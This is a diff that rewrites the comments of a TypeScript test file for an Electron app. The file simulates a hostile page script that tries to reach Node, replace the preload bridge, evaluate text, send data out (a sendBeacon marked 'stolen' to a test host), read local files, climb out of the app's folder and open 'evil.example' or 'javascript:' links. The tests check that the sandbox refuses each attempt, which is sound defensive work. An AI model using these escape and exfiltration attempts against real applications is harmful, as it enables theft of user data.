@@ -1,10 +1,10 @@
 /**
- * What a hostile script tries. Each function runs in the page, by itself: it can use nothing of this file. It answers
- * what it got, by name; an empty list means that everything was refused.
+ * The attempts of a hostile script. Each function runs alone in the page, so it can use nothing of this file. It returns the
+ * names of what it got; an empty list means that everything was refused.
  */
 // oxlint-disable unicorn/consistent-function-scoping
 
-/** Node and Electron, by every name they are known under. */
+/** Tries to reach Node and Electron by all of their names. */
 export function reachNode(): string[] {
   const names = [
     'require',
@@ -19,17 +19,17 @@ export function reachNode(): string[] {
   ];
   const scope = globalThis as unknown as Record<string, unknown>;
   const found = names.filter((name) => scope[name] !== undefined);
-  // A function that came over the bridge must not carry its own world along.
+  // A function of the bridge must not give access to the preload's world.
   const maker = window.mediamagic?.overview.constructor as FunctionConstructor;
   try {
     if (maker('return typeof process')() !== 'undefined') found.push('the preload’s process');
   } catch {
-    // The policy forbids programs made of text.
+    // The policy forbids evaluating text.
   }
   return found;
 }
 
-/** The bridge itself: replaced, it would hear every key that is typed. */
+/** Tries to replace the bridge, which would reveal every key that is entered. */
 export function changeBridge(): string[] {
   const got: string[] = [];
   const scope = window as unknown as Record<string, unknown>;
@@ -45,7 +45,7 @@ export function changeBridge(): string[] {
     try {
       attempt();
     } catch {
-      // Refused, loudly.
+      // Refused with an error.
     }
     if (window.mediamagic !== before || window.mediamagic?.saveSettings !== saveBefore) got.push(name);
   }
@@ -95,21 +95,21 @@ export async function runText(): Promise<string[]> {
       scope['ran service worker'] = true;
     },
   };
-  // While it runs by the debugger's hand the policy does not count; from its first pause on it does.
+  // The policy does not apply while the debugger evaluates the script, but it does after the first pause.
   await new Promise((settle) => setTimeout(settle));
   for (const attempt of Object.values(attempts)) {
     try {
       await attempt();
     } catch {
-      // Refused, loudly.
+      // Refused with an error.
     }
   }
-  // Whatever was let in has had its turn after two frames and a task.
+  // Everything that was accepted has run after two frames and a task.
   await new Promise((settle) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(settle))));
   return Object.keys(attempts).filter((name) => scope[`ran ${name}`] === true);
 }
 
-/** `host`: somebody who counts connections, so the answers here are only half of the proof. */
+/** `host` counts connections, so the test checks both these answers and that count. */
 export async function reachNetwork(host: string): Promise<string[]> {
   const got: string[] = [];
   const http = `http://${host}`;
@@ -153,7 +153,7 @@ export async function reachNetwork(host: string): Promise<string[]> {
       // Refused.
     }
   }
-  // These tell nobody whether they got through.
+  // These attempts do not report whether they succeeded.
   navigator.sendBeacon(http, 'stolen');
   document.body.style.backgroundImage = `url(${http}/b.png)`;
   for (const rel of [
@@ -189,7 +189,7 @@ export async function reachNetwork(host: string): Promise<string[]> {
   return got;
 }
 
-/** `path`: a file that is there and no upload. */
+/** `path` is an existing file that is not an upload. */
 export async function readFiles(path: string): Promise<string[]> {
   const got: string[] = [];
   const address = `file://${path}`;
@@ -232,7 +232,7 @@ export async function readFiles(path: string): Promise<string[]> {
   return got;
 }
 
-/** `wanted`: a text of a file beside the page's folder. */
+/** `wanted` is a text in a file beside the page's folder. */
 export async function leaveTheFolder(wanted: string): Promise<string[]> {
   const up = [
     '../../package.json',
@@ -297,7 +297,7 @@ export async function goElsewhere(host: string): Promise<void> {
       try {
         go();
       } catch {
-        // Refused, loudly.
+        // Refused with an error.
       }
       await new Promise((settle) => setTimeout(settle));
     }
@@ -395,7 +395,7 @@ export async function askForPermissions(): Promise<string[]> {
       }),
   };
   const got: string[] = [];
-  // A device that is never chosen is never granted either.
+  // A device request without a choice is never granted.
   const patience = () => new Promise((_done, refuse) => setTimeout(refuse, 1_500));
   for (const [name, attempt] of Object.entries(attempts)) {
     try {
@@ -408,7 +408,7 @@ export async function askForPermissions(): Promise<string[]> {
   return got;
 }
 
-/** Arguments of every wrong kind, at every call. */
+/** Calls every function with every kind of wrong argument. */
 export async function callWrongly(): Promise<string[]> {
   const bridge = window.mediamagic as unknown as Record<string, (args?: unknown) => Promise<unknown>>;
   const id = '00000000-0000-4000-8000-000000000000';
@@ -455,7 +455,7 @@ export async function callWrongly(): Promise<string[]> {
       got.push(`${name} ${String(JSON.stringify(args)).slice(0, 80)}: ${answer?.slice(0, 80)}`);
     }
   }
-  // Fits the contract, and still opens nothing: there is no such link, whatever it looks like.
+  // This matches the contract, but opens nothing, because there is no such link.
   for (const link of ['https://evil.example', 'javascript:alert(1)', '__proto__']) {
     const answer = (await bridge['openResultLink']?.({ id, link })) as { found: boolean };
     if (answer.found) got.push(`openResultLink ${link}`);
